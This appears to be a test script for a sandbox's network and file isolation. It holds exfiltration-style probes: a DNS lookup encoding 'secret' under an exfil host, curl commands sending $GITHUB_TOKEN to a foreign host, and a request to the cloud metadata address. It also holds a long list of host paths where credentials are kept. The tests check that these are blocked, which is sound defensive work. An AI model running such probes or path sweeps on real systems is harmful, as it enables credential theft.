#!/usr/bin/python3 -B
"""From inside a local sandbox: DNS, UDP, ICMP, other ports, direct addresses, foreign placeholders.
All of it is refused, and all of it is in the audit. And what should work: loopback, ssh remotes."""
import base64
import json
import os
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import durward, scene, tap  # noqa: E402

NXDOMAIN, NOERROR = 3, 0


def net(box, *steps):
    status, out, err = box.sh("/usr/bin/python3 %s/net.py -" % durward.INSIDE,
                              stdin=json.dumps(steps))
    if status != 0:
        raise RuntimeError("net.py: %s %s" % (out, err))
    return json.loads(out)


def names(t, s, box):
    got = net(box, {"do": "dns", "name": "api.github.com"},
              {"do": "dns", "name": "API.github.COM"},
              {"do": "dns", "name": "api.github.com", "type": 28},
              {"do": "dns", "name": "evil.example.org"},
              {"do": "dns", "name": "c2VjcmV0.exfil.example.org", "type": 28},
              {"do": "dns", "name": "api.github.com", "type": 65},
              {"do": "dns", "name": "api.github.com", "type": 16},
              {"do": "dns", "name": "api.github.com", "server": "8.8.8.8"},
              {"do": "dns", "name": "api.github.com", "server": "2001:4860:4860::8888"},
              {"do": "dns", "name": "tcp.example.org", "tcp": True},
              {"do": "dns", "name": "sub.api.github.com"})
    a = got[0].get("answers") or [""]
    t.ok(got[0].get("rcode") == 0 and a[0].startswith(("198.18.", "198.19.")),
         "D2 an allowed name gets a synthetic address", str(got[0]))
    t.eq(got[1].get("answers"), got[0].get("answers"), "the same in another case")
    t.ok(got[2].get("rcode") == 0 and all(x.startswith("fd") for x in got[2]["answers"]),
         "AAAA is of our own range or none", str(got[2]))
    t.eq(got[3].get("rcode"), NXDOMAIN, "D2 another name is NXDOMAIN")
    t.eq(got[4].get("rcode"), NXDOMAIN, "D2 as AAAA too")
    for i, kind in ((5, "HTTPS"), (6, "TXT")):
        t.eq((got[i].get("rcode"), got[i].get("answers")), (NOERROR, []), "D2 %s has no data" % kind)
    t.eq(got[7].get("answers"), got[0].get("answers"), "whatever server is asked")
    t.eq(got[8].get("answers"), got[0].get("answers"), "over IPv6 too")
    t.eq(got[9].get("rcode"), NXDOMAIN, "D4 over TCP too")
    t.eq((got[10].get("rcode"), got[10].get("answers")), (NOERROR, ["198.19.255.254"]),
         "a name under an allowed one is not allowed: it is where refusals are told")


def packets(t, s, box):
    open_port = socket.create_server(("127.0.0.1", 0))
    t.cleanup(open_port.close)
    host_port = open_port.getsockname()[1]
    got = net(box, {"do": "udp", "host": "8.8.4.4", "port": 443},
              {"do": "udp", "host": "2001:db8::1", "port": 443},
              {"do": "udp", "host": "203.0.113.7", "port": 9999},
              {"do": "tcp", "host": "203.0.113.7", "port": 25, "send": "x", "wait": 3},
              {"do": "tcp", "host": "169.254.169.254", "port": 80,
               "send": "GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"},
              {"do": "tcp", "host": "127.0.0.1", "port": host_port},
              {"do": "socket", "family": 2, "type": 3, "protocol": 1},
              {"do": "socket", "family": 2, "type": 2, "protocol": 1},
              {"do": "socket", "family": 17, "type": 3},
              {"do": "socket", "family": 40, "type": 1},
              {"do": "socket", "family": 16, "type": 3, "protocol": 12},
              {"do": "tls", "host": "203.0.113.8", "address": "203.0.113.8", "sni": "",
               "insecure": True, "send": "GET / HTTP/1.1\r\nHost: 203.0.113.8\r\n\r\n"},
              {"do": "tcp", "host": "127.0.0.1", "port": 443, "send": "GET / HTTP/1.1\r\n\r\n"})
    for i, what in enumerate(("D11 UDP 443 (QUIC)", "D11 UDP over IPv6", "UDP 9999")):
        t.ok(not got[i].get("got"), what + " has no answer", str(got[i]))
    t.ok(not got[3].get("got"), "D12 TCP 25 says nothing", str(got[3]))
    text = got[4].get("got", "")
    t.ok("403" in text or not text, "D6 the metadata address is refused", str(got[4]))
    t.ok(not got[5].get("connected"), "D8 the host's loopback is not there", str(got[5]))
    for i, what in ((6, "D10 a raw socket"), (7, "D10 a ping socket"), (8, "a packet socket"),
                    (9, "D16 vsock"), (10, "D17 another netlink family")):
        t.ok(got[i].get("error"), what + " is refused", str(got[i]))
    t.ok("200 OK" not in got[11].get("got", ""), "E7 TLS to an address without a rule is refused",
         str(got[11]))
    t.ok(" 200 " not in got[12].get("got", ""), "D8 loopback 443 is not a way to the gate",
         str(got[12]))
    status, out, _ = box.sh("python3 -m http.server -b 127.0.0.1 3000 >/dev/null 2>&1 & p=$!; "
                            "for i in 1 2 3 4 5 6 7 8 9 10; do curl -s -o /dev/null -w "
                            "'%{http_code}' http://127.0.0.1:3000/ && break; sleep 0.2; done; "
                            "kill $p")
    t.ok(out.endswith("200"), "a server on the sandbox's own loopback works", out)
    status, out, err = box.sh("bash -c 'exec 3<>/dev/tcp/github.com/22; timeout 3 head -c 300 <&3'")
    t.ok("SSH" in out or "https" in out.lower(), "D12 port 22 says why it is closed", repr(out + err))


def disguises(t, s, box):
    """Right address, other name; other sandbox's and own placeholders in wrong places."""
    before = len(s.github.requests), len(s.plain.requests)
    got = net(box, {"do": "tls", "host": "deps.example.com", "address": "api.github.com",
                    "insecure": True, "send": "GET /user HTTP/1.1\r\nHost: deps.example.com\r\n\r\n"},
              {"do": "tls", "host": "api.github.com",
               "send": "GET /user HTTP/1.1\r\nHost: deps.example.com\r\n\r\n"})
    t.ok("HTTP/1.1 200" not in got[0].get("got", ""), "A2 the address of one name with the SNI of "
         "another is refused", str(got[0]))
    t.has(got[1].get("got", ""), "421", "Host of another name is 421")
    cases = (("-H \"X-Any: $GITHUB_TOKEN\" https://deps.example.com/", "secret_blocked"),
             ("\"https://deps.example.com/?t=$GITHUB_TOKEN\"", "secret_blocked"),
             ("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://deps.example.com/",
              "secret_blocked"),
             ("-H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.github.com/user", None),
             ("-H 'Authorization: Bearer ghp_0123456789012345678901234567890123ab' "
              "https://api.github.com/user", "foreign_credential"))
    for line, code in cases:
        _, out, err = box.sh("curl -sS -w ' %{http_code}' " + line)
        t.ok(out.endswith(" 403") and (code is None or code in out),
             "a placeholder where it has no place: 403 %s" % (code or ""), line, out, err)
    t.eq((len(s.github.requests), len(s.plain.requests)), before, "nothing of these left")
    for auth in ('-H "Authorization: token $GITHUB_TOKEN"', '-u "x:$GITHUB_TOKEN"',
                 '-H "authorization: bearer $GITHUB_TOKEN"', '-H "Authorization: $GITHUB_TOKEN"'):
        _, out, err = box.sh("curl -sS -o /dev/null -w '%{http_code}' " + auth +
                             " https://api.github.com/user")
        t.eq(out, "200", "the own placeholder in its place: " + auth)


def strangers(t, s, box):
    """A placeholder of another sandbox is known as such."""
    before = len(s.github.requests)
    other = box.sh("echo $GITHUB_TOKEN")[1].strip()
    r = s.d.run(["sh", "-c", "echo mine $GITHUB_TOKEN; curl -sS -w ' %{http_code}' -H "
                 "'Authorization: Bearer " + other + "' https://api.github.com/user"])
    t.ok("cross_sandbox" in r.stdout and r.stdout.endswith(" 403"),
         "a placeholder of another sandbox is 403 cross_sandbox", r.stdout, r.stderr)
    t.ok(other.startswith("ghp_") and "mine " + other not in r.stdout,
         "each sandbox has placeholders of its own", other)
    t.eq(len(s.github.requests), before, "and nothing left")


def families(t, s, box):
    for flag in ("-4", "-6"):
        _, out, err = box.sh("curl -sS %s -o /dev/null -w '%%{http_code}' "
                             "https://api.github.com/user" % flag)
        t.eq(out, "200", "D1 curl without proxy variables, " + flag) or t.diag(err)


def remotes(t, s, box):
    _, out, err = box.sh("git config --get-regexp 'url.*insteadof'; "
                         "GIT_TRACE=1 git ls-remote git@github.com:acme/repo.git 2>&1 | head -5",
                         env={"GIT_TERMINAL_PROMPT": "0"})
    t.ok("https://github.com/" in out, "an ssh remote becomes https", out, err)


def logged(t, s, forge, basic):
    d = s.d

    def targets(kind):
        return " ".join(str(x.get("target")) + "*" + str(x.get("count", 1)) for x in d.kinds(kind))
    want = ("8.8.4.4:443", "2001:db8::1", "203.0.113.7:9999")
    tap.wait_for(lambda: all(w in targets("packet") for w in want), 5)
    for w in want:
        t.has(targets("packet"), w, "D11 the packet to %s is recorded" % w)
    for w in ("evil.example.org", "exfil.example.org", "tcp.example.org"):
        t.has(targets("dns"), w, "the name %s is recorded" % w)
    everything = str(d.records())
    for w in ("203.0.113.7:25", "169.254.169.254", "203.0.113.8"):
        t.has(everything, w, "the connection to %s is recorded" % w)
    s.judge([(s.github, s.github_credential), (s.openai, None), (s.plain, None),
             (forge, basic)], (), "inside")


# Of what /usr leads to these are not the sandbox's: keys; what is made for the one host; a queue's folder.
NOT_SHOWN = ("/etc/ssl/private", "/etc/environment", "/etc/X11/", "/var/spool/", "/var/cache/", "/var/log/", "/run/")


def leads_to(path):
    """Where a link leads, of a host's file that everybody may read; None where it leads nowhere."""
    real = os.path.realpath(path)
    return real if os.path.exists(real) and os.stat(real).st_mode & 4 and not real.startswith(NOT_SHOWN) else None


def links(t, _, box):
    """A program's package keeps in /etc and /var/lib what it starts with, and links in /usr lead there: also inside."""
    found = subprocess.run(["find", "/usr", "-type", "l", "(", "-lname", "/etc/*", "-o", "-lname", "/var/*", ")"],
                           stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, check=False).stdout.split("\n")
    wanted = [x for x in found if x and leads_to(x)]
    status, out, err = box.sh("while read -r f; do test -e \"$f\" || echo \"$f\"; done", stdin="".join(x + "\n" for x in wanted))
    t.ok(len(wanted) > 10 and status == 0 and not out, "what the host's /usr leads to in /etc and /var is there: %d links" % len(wanted),
         *["%s: %s" % (x, os.readlink(x)) for x in out.split()[:20]], err)
    status, out, err = box.sh("ls -d /etc/shadow /etc/ssh/*key /etc/ssl/private /etc/mysql /etc/postgresql /etc/docker /var/lib/dpkg 2>/dev/null")
    t.eq(out, "", "and nothing of accounts, keys or services")


# In a mount namespace of its own: the host's /etc with files that an administrator has filled in.
FILLED = ("mount -t tmpfs none /mnt && mkdir -p /mnt/up/maven /mnt/up/lynx /mnt/work && cp \"$1\" /mnt/up/maven/settings.xml && cp \"$2\" "
          "/mnt/up/lynx/lynx.cfg && echo a >/mnt/up/maven/m2.conf && ln -sf m2.conf /mnt/up/maven/other.conf && mkdir -p /mnt/up/maven/logging /mnt/up/java-99-x /mnt/up/java-keys && "
          "mount -t overlay -o lowerdir=/etc,upperdir=/mnt/up,workdir=/mnt/work none /etc && mkdir -p /mnt/local/etc && "
          "echo \"//r.example/:_authToken=$3\" >/mnt/local/etc/corp && ln -s corp /mnt/local/etc/npmrc && mount --bind /mnt/local /usr/local && "
          "mkdir -p /etc/php/9.9/mods-available /etc/mono/9.9 /etc/java-99-x/management /mnt/local/etc/mail && cd /etc && "
          "printf 'mysqli.default_pw = %%s\\n' \"$4\" >php/9.9/mods-available/my.ini && printf '<add c=\"Pwd=%%s\"/>\\n' \"$4\" >mono/9.9/machine.config && "
          "printf '# roles\\n%%s\\n' \"$4\" >java-99-x/management/jmxremote.password && printf 'account a\\npassword %%s\\n' \"$4\" >/mnt/local/etc/mail/msmtprc && "
          "for f in %s; do mkdir -p \"$(dirname \"$f\")\" && echo 'export CORP_TOKEN=marker-4711' >>\"$f\" || exit 1; done; "
          "cd \"$5\" && shift 5 && exec \"$@\"")
# Where packages of Debian, and those that are not, keep logins, tokens and keys below /etc.
KEPT = ("apt/auth.conf apt/auth.conf.d/corp.conf netrc subversion/servers docker/config.json docker/daemon.json containers/auth.json krb5.keytab "
        "wpa_supplicant/wpa_supplicant.conf NetworkManager/system-connections/corp.nmconnection ppp/chap-secrets ppp/pap-secrets ppp/peers/corp "
        "cups/printers.conf exim4/passwd.client postfix/sasl_passwd msmtprc fetchmailrc mutt/Muttrc.d/corp.rc sasldb2 fstab gitconfig wgetrc curlrc npmrc "
        "yarnrc pip.conf my.cnf mysql/debian.cnf mysql/conf.d/corp.cnf postgresql-common/pg_service.conf odbc.ini freetds/freetds.conf ldap/ldap.conf "
        "ldap.secret nslcd.conf sssd/sssd.conf samba/credentials cifs.credentials davfs2/secrets rsyncd.secrets openvpn/auth.txt wireguard/wg0.conf "
        "ipsec.secrets vpnc/default.conf ssl/private/corp.key ssh/ssh_host_corp_key ssh/ssh_config.d/corp.conf snmp/snmp.conf environment environment.d/corp.conf "
        "profile profile.d/corp.sh bash.bashrc zsh/zshenv default/corp systemd/system/corp.service sudoers.d/corp cron.d/corp rclone.conf kubernetes/admin.conf "
        "rancher/k3s/k3s.yaml redis/redis.conf grafana/grafana.ini letsencrypt/accounts/corp nginx/htpasswd apache2/corp.conf ansible/vault_pass "
        "boto.cfg aliyun.conf s3cfg passwd- shadow-")
DEEPER = ("/etc/php/9.9/mods-available/my.ini", "/etc/mono/9.9/machine.config", "/etc/java-99-x/management/jmxremote.password",
          "/usr/local/etc/mail/msmtprc")
SETTINGS = "<settings><!-- an example: <server/> -->%s<mirrors/></settings>\n"


def logins(t, s):
    """What is shown of /etc has a place for a login here and there: a file that has one is none of the sandbox's."""
    if os.geteuid() != 0:
        return t.skip("logins in the host's /etc", "another /etc needs root")
    plain = t.write("lynx.cfg", "#http_proxy:http://user:password@host/\nSTARTFILE:http://localhost/\n")
    for what, server in (("a login", "<servers><server><password>%s</password></server></servers>" % s.github_secret.decode()),
                         ("none", "")):
        r = subprocess.run(["unshare", "-m", "sh", "-c", FILLED % KEPT, "sh", t.write("settings.xml", SETTINGS % server), plain,
                            s.github_secret.decode() if server else "${NPM_TOKEN}", s.github_secret.decode() if server else "", s.d.work,
                            durward.program(), "run",
                            "-c", s.d.conf, "--", "sh", "-c", "cat /etc/maven/settings.xml; ls /etc/maven /etc/maven/logging; "
                            "cat /etc/maven/other.conf /etc/lynx/lynx.cfg; ls -d /etc/java*; cat /usr/local/etc/corp; cat %s; grep -rsl marker-4711 /etc /usr/local/etc /var /opt /root /srv | sed 's/^/FOUND /'" % " ".join(DEEPER)], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, cwd=s.d.work, env=s.d.env, timeout=60, check=False)
        seen = r.stdout + r.stderr
        t.ok("STARTFILE" in seen and "\na\n" in seen and "m2.conf" in seen, "/etc/maven with %s: its other files are there" % what, seen)
        t.ok("/etc/java-99-x" in r.stdout and "java-keys" not in seen, "a version of Java's is shown, and nothing else that begins so", seen)
        t.eq(("_authToken" in r.stdout, "/usr/local/etc/corp" in r.stderr), (not server, bool(server)),
             "and npm's configuration in /usr %s" % ("is covered, and named" if server else "too")) or t.diag(seen)
        t.ok("FOUND" not in r.stdout and "cannot" not in r.stderr, "none of %d files that keep logins is there (%s)" % (len(KEPT.split()), what), seen)
        hidden = [x for y in r.stderr.split("\n") if "hidden from the sandbox: " in y for x in y.split("sandbox: ")[1].split(", ")]
        masked = [x for x in DEEPER if x in hidden]
        t.eq((masked, "account a" in r.stdout), (list(DEEPER) if server else [], not server),
             "and deeper ones %s" % ("are covered, and named" if server else "too")) or t.diag(seen)
        t.ok(server or sorted(hidden) == ["/etc/bash.bashrc", "/etc/profile"], "what packages put there is no login, a token that is exported is: " + what, r.stderr)
        named = [x for x in r.stderr.split("\n") if "/etc/maven/settings.xml" in x and not x.startswith("cat:")]
        t.eq((s.github_secret.decode() in seen, "<mirrors/>" in seen, bool(named)), (False, not server, bool(server)),
             "and settings.xml %s" % ("is left out, and named" if server else "too")) or t.diag(seen)


def main(t):
    s = scene.Scene(t)
    s.rule(allow="github.com/acme/*", git="fetch",
           **{"with": {"basic": {"user": "x-access-token", "password": "github"}}})
    basic = ("Authorization", "Basic " + base64.b64encode(
        b"x-access-token:" + s.github_secret).decode())
    forge = s.add("github.com", lambda q, c: c.reply(q, 404, {}))
    before = time.time()
    box = durward.Sandbox(s.d)
    t.diag("sandbox ready in %.2f s" % (time.time() - before))
    for part in (names, packets, disguises, strangers, families, remotes, links):
        t.part(part, t, s, box)
    status, err = box.close()
    t.has(err, "denied", "the summary at the end tells of denials")
    logged(t, s, forge, basic)
    t.part(logins, t, s)


tap.run(main)
